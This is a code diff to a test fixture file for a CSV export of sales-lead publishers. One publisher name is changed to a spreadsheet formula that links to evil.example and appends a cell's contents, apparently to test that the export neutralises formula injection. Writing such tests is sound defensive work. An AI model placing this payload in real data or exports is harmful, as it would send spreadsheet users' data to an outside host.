@@ -9,7 +9,8 @@ import type { TestDatabase } from '../support/test-database.js';
 /** A publisher name that needs quoting in CSV. */
 export const ACME = 'Acme, "Loans" Inc';
 export const BRIGHT = 'Bright Leads';
-export const NIGHT_OWL = 'Night Owl';
+/** A publisher name that a spreadsheet would run as a formula, were the CSV export to pass it as it is. */
+export const NIGHT_OWL = '=HYPERLINK("https://evil.example/?d="&A1,"Night Owl")';
 
 /**
  * Leads moved to chosen times after being sold, as UTC instants: around midnight in New York on the day
